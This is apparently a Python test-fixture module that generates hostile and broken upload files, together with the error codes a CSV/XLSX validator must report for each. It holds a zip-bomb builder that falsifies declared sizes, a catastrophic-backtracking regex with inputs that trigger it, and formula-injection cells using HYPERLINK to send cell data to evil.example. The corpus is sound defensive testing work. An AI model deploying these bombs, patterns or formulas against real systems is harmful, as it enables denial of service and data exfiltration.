"""A corpus of hostile and broken upload files, generated (never committed): zip bombs honest and
lying, damaged zips, renamed binaries, empty files, BOMs, UTF-16, mixed line endings, very wide and
very long tables, huge cells, formula text and a catastrophic-backtracking pattern (issue 15, item 8).

Each entry names the file, writes it into a folder and says what a check must end in: the report codes
that must appear (a refusal or errors) and whether the file is `unusable` (exit 2 from the CLI).
Sizes are the smallest that still cross the limits the tests set (the limits are patched low where
the real ones would make a slow test); `REAL_LIMITS` entries keep the real limits.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

# A schema every corpus file is checked against: an id, a name, and a code with an RE2-safe pattern
# that backtracks catastrophically in Python's re on long runs of "a" (linear in RE2).
SCHEMA = {
    "fields": [
        {"name": "id", "type": "integer"},
        {"name": "name", "type": "string"},
        {"name": "code", "type": "string", "constraints": {"pattern": "(a+)+b"}},
    ]
}
# Look-arounds cannot be compiled by RE2: such a pattern must be refused, never run with backtracking.
REDOS_PYTHON_ONLY = {
    "fields": [{"name": "code", "type": "string", "constraints": {"pattern": "(?=a)(a|a)*b"}}]
}

# The limits the corpus tests run with (module attribute -> value), small enough to keep tests fast.
TEST_LIMITS = {"XLSX_MAX_UNCOMPRESSED": 16 * 1024 * 1024, "MAX_ROWS": 50_000}

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    b'Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _letter(index: int) -> str:
    letters, n = "", index + 1
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def cell_xml(row: int, col: int, value: str | int | float) -> str:
    ref = f"{_letter(col)}{row}"
    if isinstance(value, str):
        if value.startswith("="):  # a real formula cell, with a cached text result
            return f'<c r="{ref}" t="str"><f>{escape(value[1:])}</f><v>{escape(value)}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'
    return f'<c r="{ref}"><v>{value}</v></c>'


def sheet_xml(rows: list[list[str | int | float]], padding: int = 0) -> bytes:
    """A worksheet; `padding` bytes of whitespace inside sheetData inflate it without adding cells."""
    body = "".join(
        f'<row r="{r}">' + "".join(cell_xml(r, c, v) for c, v in enumerate(cells)) + "</row>"
        for r, cells in enumerate(rows, start=1)
    )
    return _SHEET_HEAD + body.encode() + b" " * padding + _SHEET_TAIL


def xlsx_bytes(sheet: bytes) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def lie_about_sizes(data: bytes, member: str, declared: int) -> bytes:
    """The zip with `member`'s uncompressed size rewritten to `declared` in both its local header and
    the central directory (the CRC is left alone): a bomb that reports itself small."""
    out = bytearray(data)
    name = member.encode()
    local = out.find(b"PK\x03\x04")  # first local header
    while local != -1:
        name_len = struct.unpack_from("<H", out, local + 26)[0]
        if bytes(out[local + 30 : local + 30 + name_len]) == name:
            struct.pack_into("<I", out, local + 22, declared)
            break
        local = out.find(b"PK\x03\x04", local + 4)
    central = out.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", out, central + 28)[0]
        if bytes(out[central + 46 : central + 46 + name_len]) == name:
            struct.pack_into("<I", out, central + 24, declared)
            break
        central = out.find(b"PK\x01\x02", central + 4)
    return bytes(out)


@dataclass(frozen=True)
class Case:
    name: str  # file name, as uploaded
    write: Callable[[Path], None]
    codes: frozenset[str]  # codes the report must hold (at least one of them)
    unusable: bool  # the file as a whole is refused (CLI exit 2; validator status unusable)
    valid: bool = False


def _header() -> str:
    return "id,name,code\n"


def _good_rows(n: int) -> str:
    return "".join(f"{i},n{i},ab\n" for i in range(1, n + 1))


def _wide_csv(columns: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_text(",".join(f"c{i}" for i in range(columns)) + "\n" + ",".join("1" * columns) + "\n")

    return write


def _honest_bomb(path: Path) -> None:
    # 20 MB of whitespace in the sheet: deflates about 1000:1, sizes declared truthfully.
    path.write_bytes(xlsx_bytes(sheet_xml([["id", "name", "code"], [1, "a", "ab"]], padding=20 * 1024**2)))


def _lying_bomb(path: Path) -> None:
    honest = xlsx_bytes(sheet_xml([["id", "name", "code"], [1, "a", "ab"]], padding=20 * 1024**2))
    path.write_bytes(lie_about_sizes(honest, "xl/worksheets/sheet1.xml", 4096))


def _truncated_zip(path: Path) -> None:
    whole = xlsx_bytes(sheet_xml([["id", "name", "code"], *[[i, "n", "ab"] for i in range(500)]]))
    path.write_bytes(whole[: len(whole) // 2])


def _wide_xlsx(columns: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(xlsx_bytes(sheet_xml([[f"c{i}" for i in range(columns)], [1] * columns])))

    return write


def _far_cells_xlsx(path: Path) -> None:
    """Two cells far apart: calamine would allocate the whole rectangle between them."""
    sheet = (
        _SHEET_HEAD
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
        + b'<row r="1048576"><c r="ZZ1048576"><v>1</v></c></row>'
        + _SHEET_TAIL
    )
    path.write_bytes(xlsx_bytes(sheet))


def _long_xlsx(path: Path) -> None:
    rows: list[list[str | int | float]] = [["id", "name", "code"]]
    rows += [[i, "n", "ab"] for i in range(1, TEST_LIMITS["MAX_ROWS"] + 2)]
    path.write_bytes(xlsx_bytes(sheet_xml(rows)))


def _formula_xlsx(path: Path) -> None:
    rows: list[list[str | int | float]] = [
        ["id", "name", "code"],
        [1, '=HYPERLINK("http://evil.example/?"&A1,"click")', "ab"],
        ["x", "=1+1", "zz"],  # errors, so the report shows the partner's rows
    ]
    path.write_bytes(xlsx_bytes(sheet_xml(rows)))


def _big_cell_xlsx(path: Path) -> None:
    path.write_bytes(xlsx_bytes(sheet_xml([["id", "name", "code"], [1, "x" * 1_048_576, "ab"]])))


CASES: list[Case] = [
    Case("honest-bomb.xlsx", _honest_bomb, frozenset({"file-too-large"}), True),
    Case("lying-bomb.xlsx", _lying_bomb, frozenset({"file-too-large", "format-error"}), True),
    Case("truncated.xlsx", _truncated_zip, frozenset({"format-error"}), True),
    Case(
        "renamed-binary.xlsx",
        lambda p: p.write_bytes(bytes(range(256)) * 64),
        frozenset({"format-error"}),
        True,
    ),
    Case(
        "image.csv",
        lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 16),
        frozenset({"format-error", "encoding-error"}),
        True,
    ),
    Case("empty.csv", lambda p: p.write_bytes(b""), frozenset({"empty-file"}), True),
    Case("empty.xlsx", lambda p: p.write_bytes(b""), frozenset({"empty-file"}), True),
    Case(
        "bom-utf8.csv",
        lambda p: p.write_bytes(b"\xef\xbb\xbf" + (_header() + _good_rows(3)).encode()),
        frozenset(),
        False,
        valid=True,
    ),
    Case(
        "utf16.csv",
        lambda p: p.write_bytes((_header() + _good_rows(3)).encode("utf-16")),
        frozenset({"encoding-error"}),
        True,
    ),
    Case(
        "utf16-no-bom.csv",
        lambda p: p.write_bytes((_header() + _good_rows(3)).encode("utf-16-le")),
        frozenset({"encoding-error", "format-error"}),
        True,
    ),
    Case(
        "mixed-line-endings.csv",
        lambda p: p.write_bytes(b"id,name,code\r\n1,a,ab\n2,b,ab\r3,c,ab\r\n"),
        frozenset(),
        False,
        valid=True,
    ),
    Case("cols-10k.csv", _wide_csv(10_000), frozenset({"too-many-columns"}), True),
    Case("cols-400k.csv", _wide_csv(400_000), frozenset({"too-many-columns"}), True),
    Case("cols-10k.xlsx", _wide_xlsx(10_000), frozenset({"too-many-columns"}), True),
    Case("far-cells.xlsx", _far_cells_xlsx, frozenset({"too-many-rows", "too-many-cells"}), True),
    Case(
        "rows-over-limit.csv",
        lambda p: p.write_text(_header() + _good_rows(TEST_LIMITS["MAX_ROWS"] + 1)),
        frozenset({"too-many-rows"}),
        True,
    ),
    Case("rows-over-limit.xlsx", _long_xlsx, frozenset({"too-many-rows"}), True),
    Case(
        "cell-1mb.csv",
        lambda p: p.write_text(_header() + "1," + "x" * 1_048_576 + ",ab\n"),
        frozenset({"cell-too-large"}),
        True,
    ),
    Case("cell-1mb.xlsx", _big_cell_xlsx, frozenset({"cell-too-large"}), True),
    Case(
        "formula-text.csv",
        lambda p: p.write_text(
            _header() + '1,"=HYPERLINK(""http://evil.example"",""x"")",ab\nx,@SUM(A1),zz\n'
        ),
        frozenset({"type-error", "constraint-error"}),
        False,
    ),
    Case("formula-cells.xlsx", _formula_xlsx, frozenset({"type-error", "constraint-error"}), False),
    Case(
        "redos-input.csv",
        lambda p: p.write_text(_header() + "".join(f"{i},n,{'a' * 5000}c\n" for i in range(1, 201))),
        frozenset({"constraint-error"}),
        False,
    ),
]
